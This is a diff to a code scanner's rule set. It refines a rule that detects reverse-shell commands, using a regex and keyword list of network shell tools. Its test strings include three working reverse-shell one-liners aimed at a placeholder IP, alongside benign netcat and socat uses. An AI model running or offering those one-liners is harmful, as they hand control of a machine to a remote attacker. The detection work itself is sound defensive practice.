@@ -8,8 +8,9 @@ var execRules = []*Rule{{
 	Help:     "The command connects a shell to a remote host, handing control of the machine to whoever listens there. Remove it.",
 	Keywords: []string{"/dev/tcp/", "/dev/udp/", `\bnc\b`, "ncat", "netcat", "mkfifo", "socat", "socket", "dup2", "fsockopen", "tcpclient", "tcpsocket"},
 	pattern:  `(?i)/dev/(?:tcp|udp)/[\w.$-]+/\d+|\b(?:nc|ncat|netcat)\b[^\n|;]*\s-(?:e|c)\s*(?:/bin/)?(?:ba|z|k|da)?sh\b|\bmkfifo\b[^\n]*\|\s*(?:nc|ncat|netcat|openssl)\b|\bsocat\b[^\n]*\bexec:|\bsocat\b[^\n]*\btcp[^\n]*\bpty\b|\bsocket\b[^\n]{0,200}?\b(?:pty\.spawn|os\.dup2)\b|\bos\.dup2\b[^\n]{0,200}?\b(?:pty\.spawn|subprocess|/bin/(?:ba)?sh)|\bfsockopen\s*\(|\bnew-object\s+system\.net\.sockets\.tcpclient\b|\bTCPSocket\.(?:new|open)\b[^\n]{0,200}?\b(?:exec|spawn|system|IO\.popen)\b|\bperl\b[^\n]*\bsocket\b[^\n]*\bexec\b`,
+	validate: tcpShell,
 	fire:     []string{"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f", "nc -e /bin/sh 203.0.113.7 4444"},
-	pass:     []string{"nc -zv db.internal 5432", "socat TCP-LISTEN:8080,fork TCP:localhost:80", "sock = socket.create_connection((host, 443))"},
+	pass:     []string{"nc -zv db.internal 5432", "socat TCP-LISTEN:8080,fork TCP:localhost:80", "sock = socket.create_connection((host, 443))", "timeout 5 bash -c \"echo > /dev/tcp/shop.example.com/443\" && echo open"},
 }, {
 	ID: "SG-EXE-002", Severity: Critical, Category: "execution", tags: tagExecution,
 	Title:    "destructive command",
